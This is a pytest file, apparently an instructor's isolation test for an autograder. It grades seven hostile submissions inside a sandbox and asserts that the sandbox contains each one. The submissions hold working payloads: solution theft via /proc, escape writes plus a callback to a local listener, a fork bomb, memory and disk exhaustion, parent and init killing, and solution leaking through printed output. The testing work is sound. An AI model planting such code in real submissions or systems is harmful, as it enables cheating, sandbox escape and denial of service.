"""The hostile zoo: ``kit grade`` on submissions that attack the grading machine.

Each submission is the solution's ``course/`` with one hostile change, graded in one batch
(``--jobs 2``) on the FullyConnectedNets checks below. For each, the test checks that the
batch completed, the grade is what the submission earned, the grader's tree, ``/tmp``,
``$HOME`` and a listener the test opens saw nothing, no process of it is left, and its
feedback carries no solution line. The attacks do nothing when isolation holds; should it
fail, they are written to do as little harm as the attack allows (the grader's file is
restored; the fork bomb stops at a few hundred processes; only the kernel's parent and
grandparent are killed).

Instructor-only (tests/kit/ is not released).
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from isolation_helpers import SLEEPER, processes_with, wait_until_gone
from test_grade_zoo import correct, inject

from kit import grade, isolation, markers
from kit.isolation_cgroup import PREFIX
from kit.leaks import solution_only_lines
from kit.nbval_runner import Limits
from kit.reports import to_json
from kit.tree import load_task_table

ROOT = Path(__file__).resolve().parents[2]
CHECKS = {"affine-forward", "relu-forward", "svm-loss", "softmax-loss", "sgd-momentum", "adam"}
# 3 GB: per process (RLIMIT_AS, what a child with 1.4 GB of its own stays under) and over
# each kernel's tree (the cgroup, which three such children exceed together).
DISK_MB = 32  # the sandboxes' disk cap in this batch (kit grade --disk)
LIMITS = Limits(cell_timeout=30, wall=300, memory_mb=3072, max_pids=64, disk_mb=DISK_MB)

# Slow: one grading batch over the hostile zoo.
pytestmark = [pytest.mark.slow, pytest.mark.alone,  # alone: grades with --jobs 2
              pytest.mark.skipif(isolation.unavailable("bwrap") is not None,
                                 reason=f"bubblewrap cannot run here: "
                                        f"{isolation.unavailable('bwrap')}")]

# relu_forward finds the instructor's solution through /proc (working folders, command
# lines) or at the path the grader's tree has, imports it and returns its answer.
STEAL = '''

def _stolen_relu(x):
    import glob, importlib.util, os
    guesses = {GUESSED_ROOT}
    for proc in glob.glob("/proc/[0-9]*"):
        for link in ("cwd", "root"):
            try:
                guesses.add(os.readlink(proc + "/" + link))
            except OSError:
                pass
        try:
            guesses.update(a for a in open(proc + "/cmdline").read().split("\\0")
                           if a.startswith("/"))
        except OSError:
            pass
    mine = os.path.realpath(__file__)
    for guess in sorted(guesses):
        folder = guess
        while folder not in ("/", ""):
            candidate = os.path.join(folder, "course", "layers.py")
            if os.path.isfile(candidate) and os.path.realpath(candidate) != mine:
                spec = importlib.util.spec_from_file_location("_stolen", candidate)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                return module.relu_forward(x)
            folder = os.path.dirname(folder)
    raise RuntimeError("no solution to steal")
'''

# At import: write into /tmp, $HOME and the grader's tree, phone the listener, and leave
# a double-forked sleeper behind.
ESCAPE = '''

def _escape():
    import os, socket, sys
    for path in ("/tmp/" + TOKEN, os.path.join(os.path.expanduser("~"), TOKEN),
                 GUESSED_HOME + "/" + TOKEN):
        try:
            with open(path, "w") as handle:
                handle.write("escaped")
        except OSError:
            pass
    try:
        with open(GUESSED_ROOT + "/course/layers.py", "a") as handle:
            handle.write("# escaped " + TOKEN + "\\n")
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
            connection.sendall(TOKEN.encode())
    except OSError:
        pass
    if os.fork() == 0:
        exec(SLEEPER.replace("{token}", TOKEN).replace('print("forked", flush=True)', ""))
        os._exit(0)
    os.wait()


_escape()
'''

# sgd_momentum: three children try to hold 1.4 GB each (4.2 GB) at the same time. The
# function answers correctly only if they could not (the cap over the tree held). Once per
# process, like the bomb and the disk filler below: the check calls sgd_momentum many
# times, and each attempt costs seconds of paging (its case timed out on a loaded machine).
MEMORY = '''

_HELD = []


def _children_hold_memory():
    if not _HELD:
        _HELD.append(_try_to_hold_memory())
    return _HELD[0]


def _try_to_hold_memory():
    import os, time
    children = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            try:
                with open("/proc/self/oom_score_adj", "w") as handle:
                    handle.write("1000")  # kill me first, not the kernel
                blocks = [bytearray(100 * 2**20) for _ in range(14)]
                for block in blocks:
                    block[::4096] = b"x" * len(range(0, len(block), 4096))
                time.sleep(2)
                os._exit(0)
            except BaseException:
                os._exit(1)
        children.append(pid)
    held = sum(os.waitpid(pid, 0)[1] == 0 for pid in children)
    return held == 3
'''

# adam: starts a fork bomb in a session of its own (each process forks 12 times, three
# generations deep: a few hundred processes at most), then answers correctly only if a
# fork of its own is refused (the process cap held).
FORK_BOMB = '''

_BOMBS = []


def _fork_bomb():
    import os, sys, time
    bomb = ("import os, sys, time\\n"
            "depth = 0\\n"
            "for _ in range(12):\\n"
            "    try:\\n"
            "        if os.fork() == 0:\\n"
            "            depth += 1\\n"
            "            if depth < 3:\\n"
            "                continue\\n"
            "            break\\n"
            "    except OSError:\\n"
            "        time.sleep(0.05)\\n"
            "time.sleep(600)\\n")
    if not _BOMBS:  # the check calls adam several times: one bomb is enough
        _BOMBS.append(TOKEN)
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-S", "-c", bomb, TOKEN])
        time.sleep(3)
    try:
        pid = os.fork()
    except OSError:
        return False  # refused: the cap holds
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return True
'''

# affine_forward fills its working folder and /tmp with 1 MB files (the nbval kernel's
# folder was on the grader's disk; the hidden-check worker's results folder still is),
# once per process. It stops by itself at 6 times the disk cap per folder (a broken cap
# costs the machine a few hundred MB, not its disk) and answers correctly only if it was
# refused before that.
FILL_DISK = '''

_FILLED = []


def _fill_disk():
    import os
    if _FILLED:
        return _FILLED[0]
    refused = True
    for folder in (".", "/tmp"):
        for index in range(6 * DISK_MB):
            try:
                with open(os.path.join(folder, f"fill-{TOKEN}-{index}"), "wb") as handle:
                    handle.write(b"x" * 2**20)
            except OSError:
                break
        else:
            refused = False
    _FILLED.append(refused)
    return refused
'''

# svm_loss kills its parent and grandparent (nbval and the grader, were it not isolated).
KILL_PARENTS = '''

def _kill_parents():
    import os, signal
    pid = os.getppid()
    for _ in range(2):
        if pid <= 1:
            break
        try:
            parent = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            parent = 1
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
        pid = parent
    try:
        os.kill(1, signal.SIGKILL)  # its pid namespace's init
    except OSError:
        pass
'''


def solution_lines() -> list[str]:
    """The code lines of layers.py's solution regions (read with kit.markers)."""
    text = (ROOT / "course" / "layers.py").read_text(encoding="utf-8")
    segments = markers.parse(text, "course/layers.py", load_task_table(ROOT))
    return [line.strip() for region in markers.regions(segments)
            for line in markers.body_lines(region) if len(line.strip()) >= 12]


def constants(token: str, port: int) -> str:
    return (f"\nTOKEN = {token!r}\nPORT = {port}\nGUESSED_ROOT = {str(ROOT)!r}\n"
            f"GUESSED_HOME = {str(Path.home())!r}\nSLEEPER = {SLEEPER!r}\n"
            f"DISK_MB = {DISK_MB}\n")


def add_to_start(sub: Path, rel: str, signature: str, code: str) -> None:
    """Put ``code`` (one line) first in the body of the function whose def line ends with
    ``signature``."""
    inject(sub, rel, signature, signature + f"    {code}\n")


def build(base: Path, token: str, port: int) -> dict[str, Path]:
    zoo: dict[str, Path] = {}
    head = constants(token, port)
    layers, optim = "course/layers.py", "course/optim.py"

    sub = zoo["steals-solution"] = correct(base, "steals-solution")
    add_to_start(sub, layers, "def relu_forward(x: np.ndarray) -> tuple[np.ndarray, "
                 "np.ndarray]:\n", "return _stolen_relu(x)")
    with (sub / layers).open("a") as handle:
        handle.write(head + STEAL)

    sub = zoo["escapes"] = correct(base, "escapes")
    with (sub / layers).open("a") as handle:
        handle.write(head + ESCAPE)

    sub = zoo["memory-children"] = correct(base, "memory-children")
    inject(sub, optim, ') -> tuple[np.ndarray, Config]:\n    """Stochastic gradient descent',
           ') -> tuple[np.ndarray, Config]:\n'
           '    w = w if not _children_hold_memory() else w + 1.0\n'
           '    """Stochastic gradient descent')
    with (sub / optim).open("a") as handle:
        handle.write(head + MEMORY)

    sub = zoo["fork-bomb"] = correct(base, "fork-bomb")
    add_to_start(sub, optim, "def adam(w: np.ndarray, dw: np.ndarray, config: Config | None"
                 " = None) -> tuple[np.ndarray, Config]:\n",
                 "w = w if not _fork_bomb() else w + 1.0")
    with (sub / optim).open("a") as handle:
        handle.write(head + FORK_BOMB)

    sub = zoo["fills-disk"] = correct(base, "fills-disk")
    add_to_start(sub, layers, "def affine_forward(\n    x: np.ndarray, w: np.ndarray, b: "
                 "np.ndarray\n) -> tuple[np.ndarray, tuple[np.ndarray, np.ndarray, "
                 "np.ndarray]]:\n", "x = x if _fill_disk() else x + 1.0")
    with (sub / layers).open("a") as handle:
        handle.write(head + FILL_DISK)

    sub = zoo["kills-parents"] = correct(base, "kills-parents")
    add_to_start(sub, layers, "def svm_loss(x: np.ndarray, y: np.ndarray) -> tuple[float, "
                 "np.ndarray]:\n", "_kill_parents()")
    with (sub / layers).open("a") as handle:
        handle.write(KILL_PARENTS)

    sub = zoo["prints-solution"] = correct(base, "prints-solution")
    add_to_start(sub, layers, "def softmax_loss(x: np.ndarray, y: np.ndarray) -> "
                 "tuple[float, np.ndarray]:\n",
                 'print(_LEAK); raise ValueError("softmax_loss: see above")')
    with (sub / layers).open("a") as handle:
        handle.write(f"\n_LEAK = {chr(10).join(solution_lines())!r}\n")
    return zoo


class Listener:
    """A TCP listener on 127.0.0.1 that records whatever connects while the batch runs."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0.2)
        self.port = self.socket.getsockname()[1]
        self.seen: list[Any] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._accept)
        self.thread.start()

    def _accept(self) -> None:
        while not self.stop.is_set():
            try:
                self.seen.append(self.socket.accept())
            except TimeoutError:
                continue

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.socket.close()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    token = secrets.token_hex(8)
    grader_file = ROOT / "course" / "layers.py"
    before = grader_file.read_bytes()
    listener = Listener()
    base = tmp_path_factory.mktemp("hostile")
    try:
        zoo = build(base, token, listener.port)
        started = time.monotonic()
        with pytest.MonkeyPatch.context() as patch:
            patch.delenv(isolation.DISK_ENV, raising=False)  # the cap comes from LIMITS
            results = grade.grade_batch(list(zoo.values()), base / "grades", jobs=2,
                                        limits=LIMITS, only_checks=CHECKS,
                                        notebooks=["FullyConnectedNets"])
        seconds = time.monotonic() - started
    finally:
        listener.close()
        after = grader_file.read_bytes()
        if after != before:
            grader_file.write_bytes(before)  # an escape: undo it, then fail below
    return {"token": token, "results": {r.submission: to_json(r) for r in results},
            "out": base / "grades", "listener": listener, "grader_changed": after != before,
            "seconds": seconds}


def failures(result: dict[str, Any]) -> set[str]:
    return {c["name"] for c in result["checks"] if c["status"] != "passed"}


def why(result: dict[str, Any]) -> dict[str, str]:
    """Each failed check's first failing line: the assertion message says why it failed."""
    return {c["name"]: c.get("first_failing_line", "") for c in result["checks"]
            if c["status"] != "passed"}


def test_every_submission_was_graded_in_the_sandbox(hostile_run):
    results = hostile_run["results"]
    assert set(results) == {"steals-solution", "escapes", "memory-children", "fork-bomb",
                            "fills-disk", "kills-parents", "prints-solution"}
    for name, result in results.items():
        assert result["isolation"].startswith("bwrap"), name
        assert {c["name"] for c in result["checks"]} == CHECKS, name
    print(f"hostile batch: {hostile_run['seconds']:.1f} s")


def test_a_stolen_solution_earns_nothing(hostile_run):
    result = hostile_run["results"]["steals-solution"]
    assert failures(result) == {"relu-forward"}
    reason = next(c for c in result["checks"] if c["name"] == "relu-forward")["reason"]
    assert "no solution to steal" in reason


def test_escapes_reach_nothing_outside_the_sandbox(hostile_run):
    token = hostile_run["token"]
    assert failures(hostile_run["results"]["escapes"]) == set()  # otherwise correct
    assert not hostile_run["grader_changed"]
    assert not Path(f"/tmp/{token}").exists()
    assert not (Path.home() / token).exists()
    assert hostile_run["listener"].seen == []
    assert wait_until_gone(token, timeout=2) == []


def test_memory_over_three_children_meets_one_cap(hostile_run):
    result = hostile_run["results"]["memory-children"]
    assert failures(result) == set(), why(result)


def test_a_fork_bomb_meets_the_process_cap_and_dies_with_its_kernel(hostile_run):
    result = hostile_run["results"]["fork-bomb"]
    assert failures(result) == set(), why(result)
    assert processes_with(hostile_run["token"]) == []


def test_a_disk_filler_meets_the_disk_cap(hostile_run):
    """The kernel's folder and /tmp are tmpfs of the cap (full: the writer is refused and
    answers correctly); the worker's results folder is watched (the worker is stopped,
    and the hidden check says why). No file of it is left on the grader's disk."""
    result = hostile_run["results"]["fills-disk"]
    assert failures(result) == {"affine-forward"}
    check = next(c for c in result["checks"] if c["name"] == "affine-forward")
    assert check["notebook_status"] == "passed"
    assert check["hidden_status"] == "failed"
    assert any(f"disk: wrote more than {DISK_MB} MB" in line
               for line in check["hidden_feedback"]), check
    token = hostile_run["token"]
    assert list(Path(tempfile.gettempdir()).glob(f"kit-*/**/fill-{token}-*")) == []


def test_killing_its_parents_changes_nothing(hostile_run):
    result = hostile_run["results"]["kills-parents"]
    assert failures(result) == set(), why(result)


def test_solution_lines_printed_by_the_code_are_withheld_from_feedback(hostile_run):
    result = hostile_run["results"]["prints-solution"]
    assert failures(result) == {"softmax-loss"}
    check = next(c for c in result["checks"] if c["name"] == "softmax-loss")
    assert "withheld: part of the solution" in check["actual"]
    out: Path = hostile_run["out"]
    shown = (out / "prints-solution.md").read_text() + (out / "prints-solution.json").read_text()
    solution_only = solution_only_lines(ROOT)  # lines the student release does not have
    printed = [line for line in solution_lines() if line in solution_only]
    assert len(printed) > 10
    leaked = [line for line in printed if line in shown or json.dumps(line)[1:-1] in shown]
    assert leaked == []


def test_no_sandbox_is_left_behind(hostile_run):
    assert list(Path("/sys/fs/cgroup").glob(f"*/**/{PREFIX}{os.getpid()}-*")) == []
